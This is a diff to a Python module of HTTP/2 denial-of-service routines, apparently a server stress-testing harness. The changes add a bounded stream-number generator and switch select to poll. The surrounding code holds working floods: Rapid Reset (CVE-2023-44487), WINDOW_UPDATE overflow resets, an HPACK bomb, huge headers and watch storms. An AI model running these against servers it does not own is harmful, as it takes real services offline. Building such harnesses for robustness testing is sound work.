@@ -48,6 +48,13 @@ class Attack:
             except (OSError, EOFError):
                 self.ended += 1
 
+    def numbers(self, start, step=1):
+        """Numbers for streams, as long as the attack goes on."""
+        number = start
+        while self.goes_on() and number < 1 << 20:
+            yield number
+            number += step
+
     def repeat(self, data, opened=True, rest=0):
         """Sends the same bytes over and over, on a new connection whenever the server ends one."""
         while self.goes_on():
@@ -61,6 +68,8 @@ class Attack:
         """`count` connections that `begin` starts and that then do nothing, until the server has ended them all."""
         peers = []
         for _ in range(count):
+            if not self.goes_on():
+                break
             with contextlib.suppress(OSError):
                 peer = http2.Peer(self.port)
                 peers.append(peer)
@@ -83,7 +92,9 @@ class Attack:
 
 def drain(peer):
     """Takes what the server has sent; EOFError at its end."""
-    while select.select([peer.socket], [], [], 0)[0]:
+    poller = select.poll()
+    poller.register(peer.socket, select.POLLIN)
+    while poller.poll(0):
         if not peer.socket.recv(1 << 16):
             raise EOFError
 
@@ -111,7 +122,7 @@ def rapid_reset(attack):
     """CVE-2023-44487: calls that are cancelled at once."""
     while attack.goes_on():
         with attack.peer() as peer:
-            for number in range(1, 1 << 20, 100):
+            for number in attack.numbers(1, 100):
                 ids = range(2 * number + 1, 2 * number + 201, 2)
                 peer.send(b"".join(call(i, WATCH) + http2.frame(http2.RST_STREAM, 0, i, CANCEL) for i in ids))
                 drain(peer)
@@ -122,7 +133,7 @@ def made_you_reset(attack):
     overflow = struct.pack(">I", 0x7FFFFFFF)
     while attack.goes_on():
         with attack.peer() as peer:
-            for number in range(1, 1 << 20, 50):
+            for number in attack.numbers(1, 50):
                 ids = range(2 * number + 1, 2 * number + 101, 2)
                 peer.send(b"".join(call(i, WATCH) + http2.frame(http2.WINDOW_UPDATE, 0, i, overflow) for i in ids))
                 drain(peer)
@@ -184,7 +195,7 @@ def one_byte_window(attack):
     """An answer fetched a byte at a time."""
     while attack.goes_on():
         with attack.peer(initial_window=0) as peer:
-            for number in range(1, 1 << 20):
+            for number in attack.numbers(1):
                 stream = 2 * number + 1
                 peer.send(call(stream, CHECK))
                 update = http2.frame(http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))
@@ -198,7 +209,7 @@ def unread_answers(attack):
         with attack.peer(initial_window=1 << 30) as peer:
             peer.update_window(0, 1 << 30)
             peer.socket.settimeout(1)
-            for number in range(1, 1 << 20, 50):
+            for number in attack.numbers(1, 50):
                 peer.send(b"".join(call(2 * i + 1, CHECK) for i in range(number, number + 50)))
 
 
@@ -235,7 +246,7 @@ def hpack_bomb(attack):
     while attack.goes_on():
         with attack.peer() as peer:
             peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, first))
-            for stream in range(3, 1 << 20, 2):
+            for stream in attack.numbers(3, 2):
                 peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, bomb))
                 drain(peer)
 
@@ -244,7 +255,7 @@ def huge_headers(attack):
     fields = call_headers(CHECK, *((b"x-%d" % n, b"y" * 120) for n in range(100)))
     while attack.goes_on():
         with attack.peer() as peer:
-            for stream in range(1, 1 << 20, 2):
+            for stream in attack.numbers(1, 2):
                 peer.send(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, fields * 1))
                 drain(peer)
 
@@ -281,7 +292,7 @@ def watch_storm(attack):
     """Watches of names that nobody registered, as long as names may be, opened and left and opened again."""
     while attack.goes_on():
         with attack.peer() as peer:
-            for number in range(1, 1 << 20):
+            for number in attack.numbers(1):
                 name = b"%08d" % number + b"n" * 3900
                 message = b"\x0a" + bytes([len(name) % 128 + 128, len(name) // 128]) + name
                 peer.send(call(2 * number + 1, WATCH, message))
